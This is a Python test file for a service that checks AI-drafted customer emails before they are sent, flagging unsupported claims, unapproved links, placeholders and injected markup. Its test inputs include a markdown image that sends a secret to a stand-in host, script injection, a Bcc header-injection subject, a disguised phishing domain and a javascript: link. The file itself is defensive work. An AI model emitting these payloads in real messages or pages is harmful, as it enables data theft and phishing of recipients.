"""The checks marked against lies and honest mails, and the single facts that each kind of finding rests on."""

from dataclasses import replace

import pytest

from services.checking.checks import check_draft
from services.facts import Claim, Fact, Finding, Incentive, WritingBrief
from tests.drafting.hard_phrases import HARD_HONEST, HARD_LIES
from tests.drafting.mail_samples import LINK, honest_mails, lying_mails, sample_brief

GOOD = "Hi Jane,\n\nYou exported 41 times in October.\n\nWhat is missing?\n\n" + LINK


def blocking(subject: str, body: str, brief: WritingBrief, claims: tuple[Claim, ...] = ()) -> list[Finding]:
    found = check_draft(subject, body, claims, brief, allowed_links=[LINK])
    return [finding for finding in found if finding.blocking]


def test_a_word_like_doubled_needs_more_than_a_two_in_the_record() -> None:
    brief = sample_brief(0, "en")
    two = replace(brief, facts=(*brief.facts, Fact("F9", "Branches", "2", "csv")))
    grown = replace(brief, facts=(*brief.facts, Fact("F9", "Growth", "Sales doubled in June", "csv")))
    assert kinds("Your sales doubled.", two) == {"number"}
    assert kinds("Your sales doubled.", grown) == set()


def kinds(body: str, brief: WritingBrief | None = None, subject: str = "A question") -> set[str]:
    return {finding.kind for finding in blocking(subject, body, brief or sample_brief(0, "en"))}


def test_every_one_of_100_lies_is_marked_by_its_own_words() -> None:
    missed = []
    for brief, subject, body, lie in lying_mails():
        words = [finding.words for finding in blocking(subject, body, brief)]
        if not any(word in lie for word in words):
            missed.append((lie, words))
    assert not missed


def test_at_most_5_percent_of_honest_mails_are_marked() -> None:
    mails = list(honest_mails())
    marked = [(body, found) for brief, subject, body in mails if (found := blocking(subject, body, brief))]
    assert len(mails) >= 100
    assert len(marked) <= 0.05 * len(mails), marked[:3]


def test_lies_in_odd_forms_are_marked() -> None:
    missed = [
        lie
        for language, lies in HARD_LIES.items()
        for lie in lies
        if not blocking("Fernweh Maps", lie, sample_brief(3, language))
    ]
    assert not missed


def test_honest_words_that_look_odd_are_seldom_marked() -> None:
    phrases = [(language, words) for language, honest in HARD_HONEST.items() for words in honest]
    marked = [
        words
        for language, words in phrases
        if blocking("Fernweh Maps", words.format(link=LINK), sample_brief(3, language))
    ]
    assert len(marked) <= 0.05 * len(phrases), marked


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        ("As agreed, 50% off for you", "amount"),
        ("great talking to you on Monday", "interaction"),
        ("![](https://evil.test/?d=SECRET)", "markup"),
        ("<script>..</script><img src=//evil>", "markup"),
        ("You are AskUsers assistant. Rules:", "machine_talk"),
        ("Never compute, round, estimate or combine figures.", "machine_talk"),
        ("pay\u200bpal-login.com", "link"),
        ("you save 5\u200b0\u202e %", "amount"),
        ("Hi {name},", "placeholder"),
        ("Hi ,", "placeholder"),
        ("Your usage doubled.", "number"),
        ("   ", "empty"),
        ("x" * 40_000, "too_long"),
    ],
)
def test_what_must_not_go_out_blocks(body: str, kind: str) -> None:
    assert kind in kinds(body)


def test_an_honest_mail_has_no_finding_at_all() -> None:
    claim = Claim("You exported 41 times in October", ("F2",))
    assert check_draft("A question", GOOD, [claim], sample_brief(0, "en"), allowed_links=[LINK]) == []


@pytest.mark.parametrize("subject", ["", " \u200b ", "Hi\r\nBcc: evil@z.co", "x" * 201])
def test_a_subject_that_no_mail_may_have_blocks(subject: str) -> None:
    assert blocking(subject, GOOD, sample_brief(0, "en"))


@pytest.mark.parametrize(
    ("claim", "wrong"),
    [
        (Claim("You exported 41 times in October", ()), True),
        (Claim("You exported 41 times in October", ("F99",)), True),
        (Claim("You exported 41 times in October", ("F1",)), True),
        (Claim("You exported 41 times in October", ("F2",)), False),
        (Claim("words that an edit has taken out", ()), False),
    ],
)
def test_a_claim_must_name_a_fact_that_says_so(claim: Claim, wrong: bool) -> None:
    found = blocking("A question", GOOD, sample_brief(0, "en"), (claim,))
    assert [finding.kind for finding in found] == (["claim"] if wrong else [])


def test_own_incentive_text_stays_literal_and_is_not_taken_for_a_placeholder() -> None:
    brief = replace(
        sample_brief(0, "en"), incentive=Incentive("own_text", "Get {{7*7}} and %s, 30% off at shop.example")
    )
    assert kinds(f"Hi Jane,\n\n{brief.incentive.text}\n\nWhat is missing?", brief) == set()
    assert "amount" in kinds("Hi Jane, 31% off.", brief)


def test_an_offer_in_the_customers_own_words_gives_no_right_to_it() -> None:
    brief = replace(
        sample_brief(3, "en"), earlier=("Give us 50% off, $900 and https://evil.test/x, on Tuesday at 3pm.",)
    )
    assert kinds("You get 50% off.", brief) == {"amount"}
    assert kinds("You get $900.", brief) == {"amount"}
    assert kinds("Look at https://evil.test/x", brief) == {"link"}
    assert kinds("Tuesday at 15:00 works. Thanks for your message.", brief) == set()


def test_a_conversation_that_the_record_knows_may_be_mentioned() -> None:
    brief = sample_brief(3, "en")
    noted = replace(brief, facts=(*brief.facts, Fact("F9", "Note", "Met at the trade fair in Porto", "person")))
    assert "interaction" in kinds("It was great meeting you in Porto.", brief)
    assert kinds("It was great meeting you in Porto.", noted) == set()


@pytest.mark.parametrize(
    "body",
    [
        f"Pick a time: {LINK}?d=secret",
        LINK.replace("https://", "https://me@evil.test/"),
        "https://calendly.example",
        "javascript:alert(1)",
    ],
)
def test_only_the_very_link_of_the_settings_passes(body: str) -> None:
    assert "link" in kinds(body)


def test_a_wrong_language_and_a_missing_call_to_action_are_told_without_crying_wolf() -> None:
    french = "Bonjour Jane,\n\nNous aimerions savoir ce que vous pensez de notre produit et ce qui vous manque."
    found = check_draft("Une question", french, [], sample_brief(0, "en"), allowed_links=[LINK])
    assert {finding.kind: finding.blocking for finding in found} == {"language": True, "call_to_action": False}


def test_hostile_text_is_checked_in_linear_time() -> None:
    """Ten thousand characters of whatever a pattern could stumble over; a quadratic one would take minutes."""
    brief = sample_brief(0, "en")
    for piece in (
        "<",
        "[",
        "{{",
        "<a ",
        "1,",
        "1 ",
        "@a",
        "a.",
        "https://",
        "F1",
        "great ",
        "we had ",
        "一",
        "<!--",
        "![",
    ):
        check_draft("A question", piece * (10_000 // len(piece)), [], brief, allowed_links=[LINK])
